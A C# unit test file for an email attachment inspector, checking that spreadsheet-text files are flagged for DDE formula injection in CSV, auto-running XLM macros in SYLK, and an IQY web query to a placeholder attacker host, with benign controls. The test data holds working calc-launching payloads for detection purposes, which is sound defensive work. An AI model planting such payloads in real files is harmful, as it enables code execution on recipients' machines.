using System.Text;
using Weir.Mail.Tests.Support;

namespace Weir.Mail.Tests.Inspection.Readers;

public sealed class SpreadsheetTextTests
{
    [Theory]
    [InlineData("a.csv", "name,sum\n=cmd|'/c calc'!A0,2\n", "dde")]
    [InlineData("a.csv", "name;sum\n\"@SUM(1)*cmd|'/c calc'!A0\";2\n", "dde")]
    [InlineData("a.csv", "name,sum\n-12,|!\nAnn | Tom!,3", "")]
    [InlineData("a.slk", "ID;PWXL;N;E\nO;L;E;D\nNN;NAuto_Open;ER1C1\nC;Y1;X1;EEXEC(\"calc\")\nE\n", "xlm-auto-run xlm-macro xlm-runs-program")]
    [InlineData("a.slk", "ID;PWXL;N;E\nO;L;D\nC;Y1;X1;K12\nE\n", "")]
    [InlineData("a.iqy", "WEB\n1\nhttps://evil.example/q\n", "external-object")]
    public void What_a_sheet_of_text_starts_is_told(string name, string text, string features) => Assert.Equal(features, Inspected.Features(name, Encoding.UTF8.GetBytes(text)));
}
